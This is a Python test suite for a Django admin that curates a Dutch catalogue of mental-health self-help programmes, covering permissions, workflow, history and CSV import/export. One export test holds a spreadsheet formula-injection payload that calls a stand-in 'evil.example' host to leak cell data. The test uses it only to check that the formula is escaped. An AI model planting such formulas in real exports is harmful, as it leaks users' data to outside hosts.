"""Curation in the admin: who may change the catalogue, filters, workflow actions, history, CSV in and out."""

import csv
import io
from datetime import date, timedelta

import pytest
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from catalog.models import ChecklistQuestion, Criterion, LinkCheck, Programme
from tests import factories, publishing
from tests.admin_forms import form_data
from tests.otp import verified_login

pytestmark = pytest.mark.django_db
Status = Programme.Status
CHANGELIST = "admin:catalog_programme_changelist"


@pytest.fixture
def curator(redactie_group):
    user = factories.user("redacteur", is_staff=True)
    user.groups.add(redactie_group)
    return user


@pytest.fixture
def outsider():
    """Staff (may open the admin) but not in Redactie and no superuser: no rights on the catalogue."""
    return factories.user("buitenstaander", is_staff=True)


@pytest.fixture
def viewer():
    user = factories.user("meelezer", is_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="view_programme"))
    return user


# --- who may do what ----------------------------------------------------------------------------------------


def test_curator_sees_the_programme_list_with_status_and_review_dates(client, curator):
    factories.programme("Kleurjeleven", last_reviewed=date(2026, 1, 5))
    verified_login(client, curator)
    response = client.get(reverse(CHANGELIST))
    assert response.status_code == 200
    assert "Kleurjeleven" in response.text
    assert "5 januari 2026" in response.text or "jan. 5, 2026" in response.text.lower()


def test_programme_list_query_count_stays_flat(client, curator, django_assert_max_num_queries):
    verified_login(client, curator)
    for number in range(30):
        factories.programme(f"Programma {number:02}", provider=factories.provider(f"Aanbieder {number}"))
    with django_assert_max_num_queries(25):
        response = client.get(reverse(CHANGELIST))
    assert "Programma 29" in response.text


def test_curator_changes_a_programme_and_its_assessment(client, curator):
    programme = factories.programme("Psyfit", summary="Oude samenvatting.")
    verified_login(client, curator)
    url = reverse("admin:catalog_programme_change", args=[programme.pk])
    data = form_data(client.get(url))
    data["summary"] = "Werken aan mentale fitheid, in je eigen tempo."
    data["assessments-0-verdict"] = "partly"
    data["assessments-0-rationale"] = "Aanbieder en doel zijn bekend; financier niet."
    data["assessments-0-sources"] = [str(publishing.source("Psyfit: over het programma").pk)]
    data["assessments-0-assessed_on"] = "2026-03-01"  # a published programme dates every verdict
    response = client.post(url, data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    programme.refresh_from_db()
    assert programme.summary == "Werken aan mentale fitheid, in je eigen tempo."
    assessment = programme.assessments.get(pk=data["assessments-0-id"])
    assert assessment.verdict == "partly"
    assert assessment.rationale == "Aanbieder en doel zijn bekend; financier niet."
    assert [source.title for source in assessment.sources.all()] == ["Psyfit: over het programma"]


def test_curator_adds_a_programme_which_starts_as_draft_with_four_unknown_assessments(client, curator):
    provider = factories.provider("Mirro")
    verified_login(client, curator)
    url = reverse("admin:catalog_programme_add")
    data = form_data(client.get(url))
    data.update(
        name="Rouwverwerking",
        slug="rouwverwerking",
        provider=str(provider.pk),
        summary="Online zelfhulp bij het verwerken van verlies.",
        themes=[str(factories.theme("Rouw").pk)],
        languages=[str(factories.language().pk)],
    )
    response = client.post(url, data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    programme = Programme.objects.get(slug="rouwverwerking")
    assert programme.status == Status.DRAFT
    assert sorted(programme.assessments.values_list("verdict", flat=True)) == ["unknown"] * 4


def test_new_programme_form_offers_the_four_criteria_and_stores_a_filled_in_one(client, curator):
    verified_login(client, curator)
    url = reverse("admin:catalog_programme_add")
    page = client.get(url)
    criteria = [form.initial["criterion"] for form in page.context["inline_admin_formsets"][0].formset.forms]
    assert criteria == Criterion.values
    data = form_data(page)
    data.update(
        name="Psyfit",
        slug="psyfit",
        provider=str(factories.provider("Trimbos-Instituut").pk),
        summary="Zelfhulp om je mentale fitheid te vergroten.",
        themes=[str(factories.theme("Mentale fitheid").pk)],
        languages=[str(factories.language().pk)],
        **{
            "assessments-1-verdict": "partly",
            "assessments-1-rationale": "Doel beschreven.",
            "assessments-1-sources": [str(publishing.source().pk)],
        },
    )
    assert client.post(url, data).status_code == 302
    verdicts = dict(Programme.objects.get(slug="psyfit").assessments.values_list("criterion", "verdict"))
    assert verdicts == {
        "effectiveness": "unknown",
        "transparency": "partly",
        "user_friendliness": "unknown",
        "safety": "unknown",
    }


def test_status_cannot_be_edited_in_the_form(client, curator):
    programme = factories.programme(status=Status.DRAFT)
    verified_login(client, curator)
    url = reverse("admin:catalog_programme_change", args=[programme.pk])
    data = form_data(client.get(url))
    data["status"] = Status.PUBLISHED
    client.post(url, data)
    programme.refresh_from_db()
    assert programme.status == Status.DRAFT


@pytest.mark.parametrize(
    "url_name",
    ["admin:catalog_programme_changelist", "admin:catalog_programme_add", "admin:catalog_provider_add"],
)
def test_staff_outside_redactie_is_refused(client, outsider, url_name):
    verified_login(client, outsider)
    assert client.get(reverse(url_name)).status_code == 403


def test_staff_outside_redactie_cannot_change_a_programme(client, outsider):
    programme = factories.programme("Drinktest", summary="Ongewijzigd.")
    verified_login(client, outsider)
    url = reverse("admin:catalog_programme_change", args=[programme.pk])
    assert client.get(url).status_code == 403
    assert client.post(url, {"name": "Gekaapt", "summary": "Gewijzigd."}).status_code == 403
    programme.refresh_from_db()
    assert (programme.name, programme.summary) == ("Drinktest", "Ongewijzigd.")


def test_staff_outside_redactie_cannot_run_a_workflow_action(client, outsider):
    programme = factories.programme(status=Status.DRAFT)
    verified_login(client, outsider)
    response = client.post(reverse(CHANGELIST), {"action": "publish", "_selected_action": [programme.pk]})
    assert response.status_code == 403
    programme.refresh_from_db()
    assert programme.status == Status.DRAFT


def test_staff_outside_redactie_cannot_import_or_export(client, outsider):
    verified_login(client, outsider)
    assert client.get(reverse("admin:catalog_programme_import")).status_code == 403
    assert client.post(reverse("admin:catalog_programme_export"), {"format": "0"}).status_code == 403


def test_a_view_only_user_is_not_offered_the_actions_and_cannot_run_them(client, viewer):
    programme = factories.programme(status=Status.DRAFT)
    verified_login(client, viewer)
    page = client.get(reverse(CHANGELIST))
    assert page.status_code == 200
    assert 'value="publish"' not in page.text
    client.post(reverse(CHANGELIST), {"action": "publish", "_selected_action": [programme.pk]})
    programme.refresh_from_db()
    assert programme.status == Status.DRAFT


def test_superuser_outside_redactie_may_curate(client):
    admin_user = factories.user("beheerder", is_staff=True, is_superuser=True)
    verified_login(client, admin_user)
    assert client.get(reverse("admin:catalog_programme_add")).status_code == 200


# --- filters and actions ------------------------------------------------------------------------------------


def test_review_due_filter_lists_never_and_long_ago_reviewed_programmes(client, curator):
    today = timezone.localdate()
    factories.programme("Nooit beoordeeld", last_reviewed=None)
    factories.programme("Lang geleden", last_reviewed=today - timedelta(days=400))
    factories.programme("Net gedaan", last_reviewed=today - timedelta(days=30))
    verified_login(client, curator)
    response = client.get(reverse(CHANGELIST), {"review": "due"})
    shown = {programme.name for programme in response.context["cl"].result_list}
    assert shown == {"Nooit beoordeeld", "Lang geleden"}


def test_delivery_filter_lists_guided_programmes(client, curator):
    factories.programme("Begeleid", offers_guided=True)
    factories.programme("Alleen zelfhulp", offers_guided=False)
    verified_login(client, curator)
    response = client.get(reverse(CHANGELIST), {"delivery": "guided"})
    assert [programme.name for programme in response.context["cl"].result_list] == ["Begeleid"]


def test_publish_action_publishes_the_selected_programmes_in_review_and_says_so(client, curator):
    first = publishing.ready_for_review("Eerste")
    second = publishing.ready_for_review("Tweede")
    verified_login(client, curator)
    response = client.post(
        reverse(CHANGELIST), {"action": "publish", "_selected_action": [first.pk, second.pk]}, follow=True
    )
    assert set(Programme.objects.published().values_list("name", flat=True)) == {"Eerste", "Tweede"}
    assert "2 programma's gepubliceerd." in [str(message) for message in response.context["messages"]]


def test_publish_action_explains_a_refusal_and_keeps_the_archived_programme(client, curator):
    archived = factories.programme("Oud programma", status=Status.ARCHIVED)
    verified_login(client, curator)
    response = client.post(reverse(CHANGELIST), {"action": "publish", "_selected_action": [archived.pk]}, follow=True)
    archived.refresh_from_db()
    assert archived.status == Status.ARCHIVED
    [warning] = [str(message) for message in response.context["messages"]]
    assert "Oud programma" in warning and "Gearchiveerd" in warning


@pytest.mark.parametrize(
    ("action", "source", "target"),
    [
        ("send_for_review", Status.DRAFT, Status.IN_REVIEW),
        ("archive", Status.PUBLISHED, Status.ARCHIVED),
        ("back_to_draft", Status.ARCHIVED, Status.DRAFT),
    ],
)
def test_workflow_actions_move_the_programme(client, curator, action, source, target):
    programme = factories.programme(status=source)
    verified_login(client, curator)
    client.post(reverse(CHANGELIST), {"action": action, "_selected_action": [programme.pk]})
    programme.refresh_from_db()
    assert programme.status == target


# --- quality checklist --------------------------------------------------------------------------------------


def test_assessment_page_asks_every_question_of_its_criterion_and_no_other(client, curator, checklist_questions):
    assessment = factories.programme().assessments.get(criterion=Criterion.SAFETY)
    verified_login(client, curator)
    response = client.get(reverse("admin:catalog_qualityassessment_change", args=[assessment.pk]))
    for question in ChecklistQuestion.objects.filter(criterion=Criterion.SAFETY):
        assert question.text in response.text
    assert "klachtenprocedure" not in response.text


def test_curator_answers_a_checklist_question_and_the_rest_stays_unknown(client, curator, checklist_questions):
    assessment = factories.programme().assessments.get(criterion=Criterion.SAFETY)
    verified_login(client, curator)
    url = reverse("admin:catalog_qualityassessment_change", args=[assessment.pk])
    data = form_data(client.get(url))
    data["answers-0-answer"] = "yes"
    response = client.post(url, data)
    assert response.status_code == 302
    [answer] = assessment.answers.all()
    assert answer.answer == "yes"
    assert answer.question == ChecklistQuestion.objects.filter(criterion=Criterion.SAFETY).first()


# --- history ------------------------------------------------------------------------------------------------


def test_history_records_who_changed_what(client, curator):
    programme = factories.programme("Minderdrinken", summary="Eerst.")
    verified_login(client, curator)
    url = reverse("admin:catalog_programme_change", args=[programme.pk])
    data = form_data(client.get(url))
    data["summary"] = "Daarna."
    client.post(url, data)
    change = programme.history.filter(history_type="~", summary="Daarna.").latest()
    assert change.history_user == curator
    delta = change.diff_against(change.prev_record)
    assert "summary" in delta.changed_fields


def test_history_page_shows_the_curator_and_the_change(client, curator):
    programme = factories.programme("Minderdrinken", status=Status.DRAFT)
    verified_login(client, curator)
    client.post(reverse(CHANGELIST), {"action": "send_for_review", "_selected_action": [programme.pk]})
    response = client.get(reverse("admin:catalog_programme_history", args=[programme.pk]))
    assert response.status_code == 200
    assert "redacteur" in response.text
    assert "→" in response.text


# --- CSV export and import ----------------------------------------------------------------------------------


def csv_upload(text, name="programmas.csv"):
    return SimpleUploadedFile(name, text.encode("utf-8"), content_type="text/csv")


def preview(client, text):
    data = {"format": "0", "import_file": csv_upload(text)}
    return client.post(reverse("admin:catalog_programme_import"), data)


def confirm(client, preview_response):
    confirm_form = preview_response.context["confirm_form"]
    return client.post(reverse("admin:catalog_programme_process_import"), confirm_form.initial)


@pytest.fixture
def lookups():
    factories.provider("Trimbos-Instituut")
    factories.theme("Problematisch alcoholgebruik")
    factories.theme("Depressieve klachten")
    factories.language("Nederlands", "nl")
    factories.language("Engels", "en")


def test_csv_export_contains_the_programmes_with_provider_names_and_slugs(client, curator):
    factories.programme(
        "Minderdrinken",
        provider=factories.provider("Trimbos-Instituut"),
        themes=[factories.theme("Problematisch alcoholgebruik")],
    )
    factories.programme("Kleurjeleven", provider=factories.provider("Trimbos-Instituut"))
    verified_login(client, curator)
    response = client.post(reverse("admin:catalog_programme_export"), {"format": "0", "resource": "0"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("slug,name,provider,status")
    assert any(line.startswith("minderdrinken,Minderdrinken,Trimbos-Instituut,published") for line in lines)
    assert "problematisch-alcoholgebruik" in response.content.decode()
    assert len(lines) == 3


def test_csv_import_previews_then_creates_and_updates_programmes(client, curator, lookups):
    existing = factories.programme("Minderdrinken", summary="Oud.", status=Status.PUBLISHED)
    verified_login(client, curator)
    text = (
        "slug,name,provider,summary,themes,languages,cost,offers_guided\n"
        "minderdrinken,Minderdrinken,Trimbos-Instituut,Nieuw.,problematisch-alcoholgebruik,nl,free,nee\n"
        ",Kleur je leven,trimbos-instituut,Zelfhulp bij somberheid.,depressieve-klachten,nl|en,unknown,ja\n"
    )
    shown = preview(client, text)
    assert shown.status_code == 200
    assert not shown.context["result"].has_errors() and not shown.context["result"].has_validation_errors()
    assert Programme.objects.count() == 1  # the preview changes nothing

    response = confirm(client, shown)
    assert response.status_code == 302
    existing.refresh_from_db()
    assert (existing.summary, existing.status) == ("Nieuw.", Status.PUBLISHED)
    created = Programme.objects.get(slug="kleur-je-leven")
    assert created.status == Status.DRAFT
    assert created.offers_guided is True
    assert sorted(created.languages.values_list("code", flat=True)) == ["en", "nl"]
    assert created.assessments.count() == 4


def test_csv_import_with_semicolons_as_dutch_spreadsheets_write_it(client, curator, lookups):
    verified_login(client, curator)
    text = (
        "slug;name;provider;summary;themes;languages\n"
        "md;Minder drinken;Trimbos-Instituut;Kort.;problematisch-alcoholgebruik;nl\n"
    )
    confirm(client, preview(client, text))
    assert Programme.objects.get(slug="md").name == "Minder drinken"


def test_csv_import_reports_bad_rows_by_column_and_imports_nothing(client, curator, lookups):
    verified_login(client, curator)
    text = (
        "slug,name,provider,summary,themes,languages,cost,on_ios\n"
        "een,Een,Onbekende Aanbieder,Kort.,depressieve-klachten,nl,free,1\n"
        "twee,Twee,Trimbos-Instituut,Kort.,bestaat-niet,nl,free,1\n"
        "drie,Drie,Trimbos-Instituut,Kort.,depressieve-klachten,nl,gratis,misschien\n"
        "vier,Vier,Trimbos-Instituut,,,nl,free,0\n"
    )
    response = preview(client, text)
    assert response.status_code == 200
    assert "confirm_form" not in response.context or response.context["confirm_form"] is None
    page = response.text
    assert "Onbekende Aanbieder" in page
    assert "bestaat-niet" in page
    assert "gratis" in page
    assert "misschien" in page
    invalid_rows = response.context["result"].invalid_rows
    assert [row.number for row in invalid_rows] == [1, 2, 3, 4]
    assert "themes" in invalid_rows[3].field_specific_errors
    assert "summary" in invalid_rows[3].field_specific_errors
    assert Programme.objects.count() == 0


def test_csv_import_of_a_file_that_is_not_csv_gives_a_message_not_a_server_error(client, curator):
    verified_login(client, curator)
    response = client.post(
        reverse("admin:catalog_programme_import"),
        {"format": "0", "import_file": SimpleUploadedFile("foto.csv", b"\x89PNG\r\n\x1a\n\x00\x00\xff\xfe")},
    )
    assert response.status_code == 200
    assert Programme.objects.count() == 0


def test_csv_import_without_a_slug_column_uses_the_name(client, curator, lookups):
    verified_login(client, curator)
    text = "name,provider,summary,themes,languages\nDrinktest,Trimbos-Instituut,Kort.,problematisch-alcoholgebruik,nl\n"
    shown = preview(client, text)
    assert shown.status_code == 200
    confirm(client, shown)
    assert Programme.objects.filter(slug="drinktest").exists()


def test_csv_export_says_unknown_for_facts_nobody_checked(client, curator):
    factories.programme(
        "Mirro Rouwverwerking",
        anonymous_use=None,
        offers_guided=False,
        reading_level=Programme.ReadingLevel.UNKNOWN,
        internal_notes="Aanbieder nog mailen.",
    )
    verified_login(client, curator)
    response = client.post(reverse("admin:catalog_programme_export"), {"format": "0", "resource": "0"})
    [row] = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert row["anonymous_use"] == "unknown"
    assert row["offers_guided"] == "0"
    assert row["offers_self_help"] == "1"
    assert row["reading_level"] == "unknown"
    assert row["internal_notes"] == "Aanbieder nog mailen."


@pytest.mark.parametrize("cell", ["", "onbekend", "Onbekend", "unknown", " nog niet bekend "])
def test_csv_import_reads_an_empty_or_unknown_cell_as_unknown_never_as_no(client, curator, lookups, cell):
    verified_login(client, curator)
    text = (
        "slug,name,provider,summary,themes,languages,anonymous_use,his_feedback,cost,reading_level\n"
        f"psyfit,Psyfit,Trimbos-Instituut,Kort.,depressieve-klachten,nl,{cell},nee,{cell},{cell}\n"
    )
    shown = preview(client, text)
    assert not shown.context["result"].has_validation_errors()
    confirm(client, shown)
    programme = Programme.objects.get(slug="psyfit")
    assert programme.anonymous_use is None
    assert programme.his_feedback is False
    assert (programme.cost, programme.reading_level) == ("unknown", "unknown")


def test_csv_import_leaves_a_fact_alone_when_its_column_is_left_out(client, curator, lookups):
    existing = factories.programme("Psyfit", anonymous_use=True, status=Status.DRAFT)
    verified_login(client, curator)
    text = (
        "slug,name,provider,summary,themes,languages\npsyfit,Psyfit,Trimbos-Instituut,Nieuw.,depressieve-klachten,nl\n"
    )
    confirm(client, preview(client, text))
    existing.refresh_from_db()
    assert (existing.summary, existing.anonymous_use) == ("Nieuw.", True)


def test_csv_import_cannot_turn_a_published_programme_back_into_a_concept(client, curator, lookups):
    programme = publishing.ready_for_review("Psyfit")
    publishing.publish(programme)
    verified_login(client, curator)
    text = (
        "slug,name,provider,summary,themes,languages,offers_self_help,offers_guided,offers_blended\n"
        "psyfit,Psyfit,Trimbos-Instituut,Concept: volgt.,depressieve-klachten,nl,,,\n"
    )
    response = preview(client, text)
    [invalid] = response.context["result"].invalid_rows
    assert {"summary", "offers_self_help"} <= set(invalid.field_specific_errors)
    programme.refresh_from_db()
    assert programme.summary != "Concept: volgt."


def test_csv_export_and_import_round_trip_keeps_unknown_facts_unknown(client, curator, lookups):
    factories.programme(
        "Psyfit",
        provider=factories.provider("Trimbos-Instituut"),
        themes=[factories.theme("Depressieve klachten")],
        status=Status.DRAFT,
        anonymous_use=None,
        suits_moderate=None,
    )
    verified_login(client, curator)
    exported = client.post(reverse("admin:catalog_programme_export"), {"format": "0", "resource": "0"})
    shown = preview(client, exported.content.decode("utf-8-sig"))
    assert not shown.context["result"].has_errors() and not shown.context["result"].has_validation_errors()
    confirm(client, shown)
    programme = Programme.objects.get(slug="psyfit")
    assert (programme.anonymous_use, programme.suits_moderate, programme.suits_mild) == (None, None, True)


# --- sources, internal notes and link checks ----------------------------------------------------------------


def test_curator_adds_a_source_and_finds_it_by_its_address(client, curator):
    verified_login(client, curator)
    url = reverse("admin:catalog_source_add")
    response = client.post(
        url,
        {
            "title": "Psyfit – over het programma",
            "publisher": "Trimbos-Instituut",
            "url": "https://www.psyfit.nl/over",
            "seen_on": "2026-01-15",
            "page": "",
            "quote": "",
        },
    )
    assert response.status_code == 302
    found = client.get(reverse("admin:catalog_source_changelist"), {"q": "psyfit.nl/over"})
    assert [source.title for source in found.context["cl"].result_list] == ["Psyfit – over het programma"]


def test_curator_attaches_a_source_to_a_fact_of_a_programme(client, curator):
    programme = factories.programme("Mirro", status=Status.DRAFT)
    source = publishing.source("Mirro: anoniem gebruik")
    verified_login(client, curator)
    url = reverse("admin:catalog_programme_change", args=[programme.pk])
    data = form_data(client.get(url))
    data.update(
        {
            "fact_sources-TOTAL_FORMS": "1",
            "fact_sources-0-fact": "anonymity",
            "fact_sources-0-source": str(source.pk),
        }
    )
    response = client.post(url, data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    [fact_source] = programme.fact_sources.all()
    assert (fact_source.fact, fact_source.source) == ("anonymity", source)


def test_change_form_marks_the_notes_as_internal(client, curator):
    programme = factories.programme("Mirro", status=Status.DRAFT)
    verified_login(client, curator)
    page = client.get(reverse("admin:catalog_programme_change", args=[programme.pk])).text
    assert "Intern: alleen voor de redactie" in page
    assert "Niets uit dit deel verschijnt ooit op de site." in page
    assert "Notities voor de redactie (intern: nooit op de site)" in page  # programme and each assessment
    assert "Openbare onderbouwing (staat op de site)" in page


def link_check(url, ok, **fields):
    return LinkCheck.objects.create(
        url=url, found_on="Programma Psyfit", ok=ok, checked_at=timezone.now(), status_code=fields.pop("code", 200)
    )


def test_link_check_list_shows_dead_links_first_and_filters_and_searches(client, curator):
    link_check("https://a.example/werkt", True)
    link_check("https://z.example/dood", False, code=404)
    verified_login(client, curator)
    url = reverse("admin:catalog_linkcheck_changelist")
    shown = [check.url for check in client.get(url).context["cl"].result_list]
    assert shown == ["https://z.example/dood", "https://a.example/werkt"]
    dead = client.get(url, {"ok__exact": "0"}).context["cl"].result_list
    assert [check.url for check in dead] == ["https://z.example/dood"]
    searched = client.get(url, {"q": "a.example"}).context["cl"].result_list
    assert [check.url for check in searched] == ["https://a.example/werkt"]


def test_link_checks_are_read_only_in_the_admin(client, curator):
    check = link_check("https://z.example/dood", False, code=404)
    verified_login(client, curator)
    assert client.get(reverse("admin:catalog_linkcheck_add")).status_code == 403
    page = client.get(reverse("admin:catalog_linkcheck_change", args=[check.pk]))
    assert page.status_code == 200
    assert 'name="_save"' not in page.text
    client.post(reverse("admin:catalog_linkcheck_change", args=[check.pk]), {"url": "https://gekaapt.example"})
    check.refresh_from_db()
    assert check.url == "https://z.example/dood"


def test_change_form_shows_the_criteria_in_their_own_order(client, curator):
    programme = factories.programme("Mirro", status=Status.DRAFT)
    verified_login(client, curator)
    page = client.get(reverse("admin:catalog_programme_change", args=[programme.pk]))
    forms = page.context["inline_admin_formsets"][0].formset.forms
    assert [form.instance.criterion for form in forms] == Criterion.values


def test_csv_export_writes_a_formula_in_a_curator_field_as_text(client, curator, lookups):
    attack = '=HYPERLINK("https://evil.example/?leak="&A2,"Klik")'
    factories.programme("Psyfit", provider=factories.provider("Trimbos-Instituut"), summary=attack)
    verified_login(client, curator)
    exported = client.post(reverse("admin:catalog_programme_export"), {"format": "0", "resource": "0"})
    [row] = csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))
    assert row["summary"] == "'" + attack
    assert not any(value.startswith(("=", "+", "@")) for value in row.values())


def test_csv_export_with_escaped_formulas_imports_back_unchanged(client, curator, lookups):
    text = "- eerste punt\n- tweede punt"
    factories.programme(
        "Psyfit",
        provider=factories.provider("Trimbos-Instituut"),
        status=Status.DRAFT,
        summary="=1+1",
        description=text,
    )
    verified_login(client, curator)
    exported = client.post(reverse("admin:catalog_programme_export"), {"format": "0", "resource": "0"})
    shown = preview(client, exported.content.decode("utf-8-sig"))
    assert not shown.context["result"].has_errors() and not shown.context["result"].has_validation_errors()
    confirm(client, shown)
    programme = Programme.objects.get(slug="psyfit")
    assert (programme.summary, programme.description) == ("=1+1", text)
